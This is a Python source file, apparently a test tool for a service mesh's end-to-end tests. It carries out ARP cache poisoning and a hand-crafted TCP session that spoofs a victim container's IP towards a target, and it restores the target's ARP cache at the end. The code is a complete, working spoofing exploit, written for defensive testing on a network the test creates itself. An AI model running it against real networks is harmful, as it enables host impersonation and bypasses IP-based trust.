"""ARP-spoofing test tool: connect to a target over TCP with another container's IP as source.

For the end-to-end tests only: it proves that a container on a Docker bridge network with
Docker's default capabilities (CAP_NET_RAW) can pose as another container towards a third one,
so a test that shows such an attack failing against the mesh means something. Point it only at
containers on a network the test itself created.

What it does (stdlib only; run in a container as ``python3 -c "$(cat spoof.py)" ARGS`` or
``python3 /dev/stdin ARGS < spoof.py``):

1. learns the target's and the victim's MAC by raw ARP requests on ``--iface``;
2. poisons the target's ARP cache every 200 ms from a thread: "victim IP is-at MAC", as an ARP
   request (the kernel takes the sender of a request for one of its addresses unconditionally)
   and as a reply. The MAC is by default a made-up, locally administered one, not the
   interface's: frames sent to it reach this container through the bridge (the bridge learns
   it from our frames) but the kernel here treats them as "other host" and ignores them. With
   the interface's own MAC (``--mac own``) this kernel would route the target's answers on to
   the real victim (Docker containers inherit ip_forward=1 from the host), and the victim
   would reset the connection;
3. sends a SYN from victim:random-port to target:port, resending (a new port each time) when
   neither SYN-ACK nor RST comes back, since an answer may go to the real victim while the
   poisoning has not taken yet; ACKs the SYN-ACK, sends ``--payload`` with PSH|ACK, ACKs the
   target's answer until FIN, RST or ``--timeout``, then sends RST;
4. restores the target's cache with the victim's real MAC, so the victim is not left cut off.

It prints one JSON line: ``{"result": "connected" | "refused" | "no-answer", "mac": <MAC the
target was told the victim has>, "reply": <answer bytes decoded latin-1>, "detail": ...}`` and
a few more keys ("ended": fin | rst | timeout once connected; "kernel_frames": what this
container's own kernel sent for the spoofed flow, which should be nothing), and exits 0 in all
three cases; 2 for its own errors (e.g. no CAP_NET_RAW), with {"result": "error", ...}.
"""

from __future__ import annotations

import argparse
import base64
import fcntl
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
PACKET_OUTGOING = 4
SIOCGIFADDR = 0x8915
SIOCGIFHWADDR = 0x8927
BROADCAST = b"\xff" * 6
ZERO_MAC = b"\x00" * 6
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
MSS = 1400
WINDOW = 65535


class ToolError(Exception):
    """The tool itself could not run (no permission, no such interface...)."""


def mac_str(mac: bytes) -> str:
    return ":".join(f"{b:02x}" for b in mac)


def mac_bytes(text: str) -> bytes:
    parts = text.split(":")
    if len(parts) != 6:
        raise ToolError(f"not a MAC address: {text!r}")
    return bytes(int(p, 16) for p in parts)


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def iface_addresses(iface: str) -> tuple[bytes, bytes]:
    """(MAC, IPv4 address) of ``iface``."""
    req = struct.pack("256s", iface.encode()[:15])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            mac = fcntl.ioctl(s.fileno(), SIOCGIFHWADDR, req)[18:24]
            ip = fcntl.ioctl(s.fileno(), SIOCGIFADDR, req)[20:24]
        except OSError as exc:
            raise ToolError(f"interface {iface}: {exc}") from exc
    return mac, ip


def sysctl(path: str) -> str:
    try:
        with open(path) as f:
            return f.read().strip()
    except OSError:
        return "?"


def eth(dst: bytes, src: bytes, ethertype: int) -> bytes:
    return dst + src + struct.pack("!H", ethertype)


def arp_frame(op: int, eth_dst: bytes, sha: bytes, spa: bytes, tha: bytes, tpa: bytes,
              eth_src: bytes | None = None) -> bytes:
    body = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, op, sha, spa, tha, tpa)
    return eth(eth_dst, eth_src or sha, ETH_P_ARP) + body + b"\x00" * 18  # padded to 60 bytes


def tcp_packet(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
               payload: bytes = b"", options: bytes = b"") -> bytes:
    """An IPv4 packet holding one TCP segment, both checksums filled in."""
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                         offset << 4, flags, WINDOW, 0, 0)
    segment = header + options + payload
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
    csum = checksum(pseudo + segment)
    segment = segment[:16] + struct.pack("!H", csum) + segment[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), random.randrange(65536),
                     0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + segment


class Segment:
    __slots__ = ("src", "dst", "sport", "dport", "seq", "ack", "flags", "data")

    def __init__(self, packet: bytes) -> None:
        ihl = (packet[0] & 0x0F) * 4
        total = struct.unpack("!H", packet[2:4])[0]
        self.src, self.dst = packet[12:16], packet[16:20]
        tcp = packet[ihl:total]
        self.sport, self.dport, self.seq, self.ack, off, self.flags = struct.unpack(
            "!HHIIBB", tcp[:14])
        self.data = tcp[(off >> 4) * 4:]


def seq_after(a: int, b: int) -> bool:
    """a > b in 32-bit sequence space."""
    return 0 < ((a - b) & 0xFFFFFFFF) < 0x80000000


class Spoofer:
    def __init__(self, args: argparse.Namespace) -> None:
        self.iface = args.iface
        self.own_mac, self.own_ip = iface_addresses(self.iface)
        self.victim = socket.inet_aton(args.victim)
        self.target = socket.inet_aton(args.target)
        self.port = args.port
        self.timeout = args.timeout
        self.interval = args.interval
        if args.mac == "random":
            self.mac = bytes([random.randrange(256) & 0xFC | 0x02]) + os.urandom(5)
        elif args.mac == "own":
            self.mac = self.own_mac
        else:
            self.mac = mac_bytes(args.mac)
        try:
            self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
            self.sock.bind((self.iface, ETH_P_ALL))
        except PermissionError as exc:
            raise ToolError(f"raw socket: {exc} (needs CAP_NET_RAW)") from exc
        except OSError as exc:
            raise ToolError(f"raw socket on {self.iface}: {exc}") from exc
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        self.lock = threading.Lock()
        self.stop = threading.Event()
        self.target_mac = b""
        self.victim_mac = b""
        self.poisoned = 0  # ARP rounds sent
        self.poison_acks = 0  # ARP replies of the target to our poisoning requests
        self.arp_answers = 0  # requests of the target for the victim we answered
        self.kernel_frames: list[str] = []  # what this container's own kernel sent for the flow
        self.sport = 0

    # -- link ---------------------------------------------------------------------------------

    def send(self, frame: bytes) -> None:
        with self.lock:
            self.sock.send(frame)

    def send_tcp(self, seq: int, ack: int, flags: int, payload: bytes = b"",
                 options: bytes = b"") -> None:
        packet = tcp_packet(self.victim, self.target, self.sport, self.port, seq, ack, flags,
                            payload, options)
        self.send(eth(self.target_mac, self.mac, ETH_P_IP) + packet)

    def frames(self, deadline: float):
        """Frames received until ``deadline``, each as (pkttype, frame)."""
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            ready, _, _ = select.select([self.sock], [], [], left)
            if not ready:
                return
            frame, addr = self.sock.recvfrom(65535)
            yield addr[2], frame

    def handle_arp(self, pkttype: int, frame: bytes) -> tuple[int, bytes, bytes, bytes] | None:
        """Answers the target's requests for the victim's address; returns (op, sha, spa, tpa)."""
        if pkttype == PACKET_OUTGOING or len(frame) < 42:
            return None
        op, sha, spa, _tha, tpa = struct.unpack("!H6s4s6s4s", frame[20:42])
        if self.target_mac and sha == self.target_mac and spa == self.target:
            if op == 1 and tpa == self.victim:
                self.arp_answers += 1
                self.send(arp_frame(2, self.target_mac, self.mac, self.victim, self.target_mac,
                                    self.target))
            elif op == 2 and tpa == self.victim and frame[:6] == self.mac:
                self.poison_acks += 1
        return op, sha, spa, tpa

    def pump(self, deadline: float):
        """Handles ARP until ``deadline``; yields the TCP segments of our flow from the
        target, and notes what our own kernel sends for the flow."""
        for pkttype, frame in self.frames(deadline):
            ethertype = struct.unpack("!H", frame[12:14])[0]
            if ethertype == ETH_P_ARP:
                self.handle_arp(pkttype, frame)
                continue
            if ethertype != ETH_P_IP or len(frame) < 34:
                continue
            packet = frame[14:]
            proto = packet[9]
            if pkttype == PACKET_OUTGOING:
                # Our own socket's frames are not looped back to it: this is the kernel.
                if proto == socket.IPPROTO_TCP and self.victim in (packet[12:16], packet[16:20]):
                    seg = Segment(packet)
                    self.kernel_frames.append(
                        f"tcp {socket.inet_ntoa(seg.src)}:{seg.sport} > "
                        f"{socket.inet_ntoa(seg.dst)}:{seg.dport} flags=0x{seg.flags:02x}")
                elif proto == socket.IPPROTO_ICMP and packet[16:20] == self.target:
                    ihl = (packet[0] & 0x0F) * 4
                    self.kernel_frames.append(f"icmp type {packet[ihl]} to target")
                continue
            if proto != socket.IPPROTO_TCP or frame[:6] != self.mac:
                continue
            seg = Segment(packet)
            if (seg.src == self.target and seg.dst == self.victim and seg.sport == self.port
                    and seg.dport == self.sport):
                yield seg

    def drain(self, seconds: float) -> None:
        for _ in self.pump(time.monotonic() + seconds):
            pass

    def resolve(self, ip: bytes, tries: int = 8) -> bytes:
        """The MAC of ``ip`` by raw ARP requests; b"" when nothing answers."""
        request = arp_frame(1, BROADCAST, self.own_mac, self.own_ip, ZERO_MAC, ip)
        for attempt in range(tries):
            self.send(request)
            deadline = time.monotonic() + 0.3 + 0.1 * attempt
            for pkttype, frame in self.frames(deadline):
                if struct.unpack("!H", frame[12:14])[0] != ETH_P_ARP:
                    continue
                seen = self.handle_arp(pkttype, frame)
                if seen and seen[0] == 2 and seen[2] == ip and seen[3] == self.own_ip:
                    return seen[1]
        return self.resolve_by_kernel(ip)

    def resolve_by_kernel(self, ip: bytes) -> bytes:
        """Fallback: have the kernel ARP (a UDP datagram to the discard port), then read
        /proc/net/arp."""
        text = socket.inet_ntoa(ip)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.sendto(b"", (text, 9))
            except OSError:
                return b""
        time.sleep(1.0)
        try:
            with open("/proc/net/arp") as f:
                for line in f.read().splitlines()[1:]:
                    cols = line.split()
                    if cols[0] == text and cols[2] != "0x0" and cols[3] != "00:00:00:00:00:00":
                        return mac_bytes(cols[3])
        except OSError:
            pass
        return b""

    # -- ARP poisoning ------------------------------------------------------------------------

    def tell_target(self, mac: bytes) -> None:
        """'victim is-at mac' to the target, as a request (taken unconditionally) and a reply
        (taken once the entry is older than the kernel's locktime, 1 s). The Ethernet source is
        always ``self.mac``: a frame from the victim's real MAC would make the bridge send the
        victim's traffic here."""
        self.send(arp_frame(1, self.target_mac, mac, self.victim, ZERO_MAC, self.target,
                            eth_src=self.mac))
        self.send(arp_frame(2, self.target_mac, mac, self.victim, self.target_mac, self.target,
                            eth_src=self.mac))

    def poison_loop(self) -> None:
        while not self.stop.is_set():
            try:
                self.tell_target(self.mac)
                self.poisoned += 1
            except OSError:
                pass
            self.stop.wait(self.interval)

    def restore(self) -> bool:
        if not self.victim_mac or not self.target_mac:
            return False
        for _ in range(3):
            self.tell_target(self.victim_mac)
            time.sleep(0.4)
        # once more after the locktime of our last poisoning, for the reply form
        time.sleep(0.6)
        self.tell_target(self.victim_mac)
        return True

    # -- TCP ----------------------------------------------------------------------------------

    def run(self, payload: bytes) -> dict:
        out: dict = {"result": "no-answer", "mac": mac_str(self.mac), "reply": "", "detail": "",
                     "own_mac": mac_str(self.own_mac), "own_ip": socket.inet_ntoa(self.own_ip),
                     "ip_forward": sysctl("/proc/sys/net/ipv4/ip_forward")}
        start = time.monotonic()
        self.target_mac = self.resolve(self.target)
        out["target_mac"] = mac_str(self.target_mac) if self.target_mac else None
        if not self.target_mac:
            out["detail"] = "the target did not answer ARP"
            return out
        self.victim_mac = self.resolve(self.victim)
        out["victim_mac"] = mac_str(self.victim_mac) if self.victim_mac else None
        poisoner = threading.Thread(target=self.poison_loop, daemon=True)
        poisoner.start()
        try:
            self.drain(max(3 * self.interval, 0.6))
            self.session(payload, out, start + self.timeout)
        finally:
            self.stop.set()
            poisoner.join(timeout=5)
            out["restored"] = self.restore()
            if not out["restored"]:
                out["detail"] += "; the victim's MAC is unknown: the target's cache not restored"
        out.update(poison_rounds=self.poisoned, poison_acks=self.poison_acks,
                   arp_answers=self.arp_answers, kernel_frames=self.kernel_frames,
                   seconds=round(time.monotonic() - start, 2))
        return out

    def session(self, payload: bytes, out: dict, deadline: float) -> None:
        attempts = 0
        established = None
        syn_wait = 1.0
        while established is None and time.monotonic() < deadline:
            attempts += 1
            self.sport = random.randrange(20000, 60000)
            isn = random.randrange(1 << 32)
            mss = struct.pack("!BBH", 2, 4, MSS)
            self.send_tcp(isn, 0, SYN, options=mss)
            wait_until = min(deadline, time.monotonic() + syn_wait)
            syn_wait = min(syn_wait * 1.5, 3.0)
            for seg in self.pump(wait_until):
                if seg.flags & RST and seg.flags & ACK and seg.ack == (isn + 1) & 0xFFFFFFFF:
                    out.update(result="refused", attempts=attempts, sport=self.sport,
                               detail=f"RST to the SYN (attempt {attempts})")
                    return
                if seg.flags & (SYN | ACK) == SYN | ACK and seg.ack == (isn + 1) & 0xFFFFFFFF:
                    established = seg
                    break
        out["attempts"] = attempts
        out["sport"] = self.sport
        if established is None:
            out["detail"] = f"neither SYN-ACK nor RST in {attempts} attempts"
            return
        out["result"] = "connected"
        snd_una = snd_nxt = (isn + 1) & 0xFFFFFFFF
        rcv_nxt = (established.seq + 1) & 0xFFFFFFFF
        self.send_tcp(snd_nxt, rcv_nxt, ACK)
        chunks = [payload[i:i + MSS] for i in range(0, len(payload), MSS)]
        segments: list[tuple[int, bytes]] = []  # (seq, data) sent, not yet acked
        for chunk in chunks:
            self.send_tcp(snd_nxt, rcv_nxt, PSH | ACK, chunk)
            segments.append((snd_nxt, chunk))
            snd_nxt = (snd_nxt + len(chunk)) & 0xFFFFFFFF
        received = bytearray()
        pending: dict[int, tuple[bytes, bool]] = {}  # out of order: seq -> (data, fin)
        end = "timeout"
        last_send = time.monotonic()
        while time.monotonic() < deadline and end == "timeout":
            for seg in self.pump(min(deadline, time.monotonic() + 0.5)):
                if seg.flags & RST:
                    end = "reset by the target"
                    break
                if seg.flags & ACK and seq_after(seg.ack, snd_una):
                    snd_una = seg.ack
                    segments = [(s, d) for s, d in segments
                                if seq_after((s + len(d)) & 0xFFFFFFFF, snd_una)]
                if seg.data or seg.flags & FIN:
                    pending[seg.seq] = (seg.data, bool(seg.flags & FIN))
                fin = False
                progressed = True
                while progressed:
                    progressed = False
                    for seq in list(pending):
                        data, seg_fin = pending[seq]
                        skip = (rcv_nxt - seq) & 0xFFFFFFFF
                        if skip >= 0x80000000:  # still ahead of rcv_nxt
                            continue
                        del pending[seq]
                        if skip > len(data) or (skip == len(data) and not seg_fin):
                            continue  # an old duplicate
                        received += data[skip:]
                        rcv_nxt = (seq + len(data)) & 0xFFFFFFFF
                        if seg_fin:
                            rcv_nxt = (rcv_nxt + 1) & 0xFFFFFFFF
                            fin = True
                        progressed = True
                if seg.data or seg.flags & FIN:
                    self.send_tcp(snd_nxt, rcv_nxt, ACK)
                if fin:
                    end = "FIN from the target"
                    break
            if end == "timeout" and segments and time.monotonic() - last_send > 1.0:
                for seq, data in segments:  # retransmit what the target has not acked
                    self.send_tcp(seq, rcv_nxt, PSH | ACK, data)
                last_send = time.monotonic()
        self.send_tcp(snd_nxt, rcv_nxt, RST | ACK)
        out["reply"] = received.decode("latin-1")
        out["ended"] = {"FIN from the target": "fin", "reset by the target": "rst"}.get(end, end)
        out["detail"] = (f"handshake on attempt {attempts}; {len(received)} reply bytes; "
                         f"ended by {end}")


def parse_payload(args: argparse.Namespace) -> bytes:
    if args.payload_b64 is not None:
        return base64.b64decode(args.payload_b64)
    if args.payload is None:
        return f"GET / HTTP/1.0\r\nHost: {args.target}:{args.port}\r\n\r\n".encode()
    # backslash escapes (\r, \n, \t, \xNN, \\) in an otherwise latin-1 string
    return args.payload.encode("latin-1").decode("unicode_escape").encode("latin-1")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="spoof.py", description="TCP to --target:--port with --victim's IP as source, by "
        "ARP poisoning (test tool; only against containers of a test's own network)")
    parser.add_argument("--victim", required=True, help="the IPv4 address to pose as")
    parser.add_argument("--target", required=True, help="the IPv4 address to connect to")
    parser.add_argument("--port", required=True, type=int)
    parser.add_argument("--payload", help="bytes to send once connected, with backslash escapes "
                        "(\\r\\n); default: an HTTP/1.0 GET /")
    parser.add_argument("--payload-b64", help="the payload as base64 (instead of --payload)")
    parser.add_argument("--iface", default="eth0")
    parser.add_argument("--timeout", type=float, default=20.0,
                        help="seconds for the handshake attempts and the exchange together")
    parser.add_argument("--interval", type=float, default=0.2, help="seconds between poisonings")
    parser.add_argument("--mac", default="random",
                        help="the MAC to give the victim's IP: random (a made-up one), own (the "
                        "interface's), or aa:bb:cc:dd:ee:ff")
    args = parser.parse_args(argv)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(3))  # restore the cache on docker stop
    try:
        payload = parse_payload(args)
        for ip in (args.victim, args.target):
            socket.inet_aton(ip)
        result = Spoofer(args).run(payload)
    except (ToolError, OSError, ValueError) as exc:
        print(json.dumps({"result": "error", "detail": str(exc)}), flush=True)
        return 2
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
